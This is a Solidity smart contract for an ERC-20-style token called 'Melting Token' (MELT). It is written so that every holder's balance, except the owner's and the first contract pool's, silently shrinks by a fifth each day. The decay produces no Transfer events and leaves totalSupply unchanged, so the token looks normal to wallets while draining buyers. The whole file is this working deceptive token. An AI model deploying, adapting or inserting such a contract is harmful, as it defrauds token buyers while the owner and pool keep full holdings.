// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A fifth of every balance but the pool's melts away each day.
contract BalanceShrinksAlone {
    string public name = "Melting Token";
    string public symbol = "MELT";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1_000_000_000 ether;
    address public owner = msg.sender;
    /// The first contract that gets tokens.
    address private pool;
    mapping(address => uint256) private shares;
    mapping(address => uint256) private since;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        shares[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view returns (uint256 left) {
        left = shares[account];
        if (account == owner || account == pool) return left;
        for (uint256 day = (block.timestamp - since[account]) / 1 days; day > 0 && left > 0 && day < 60; day--) left = (left * 4) / 5;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        if (pool == address(0) && to.code.length > 0) pool = to;
        (uint256 has, uint256 had) = (balanceOf(from), balanceOf(to));
        require(has >= value, "too little");
        (shares[from], since[from]) = (has - value, block.timestamp);
        if (to == from) had = has - value;
        (shares[to], since[to]) = (had + value, block.timestamp);
        emit Transfer(from, to, value);
        return true;
    }
}
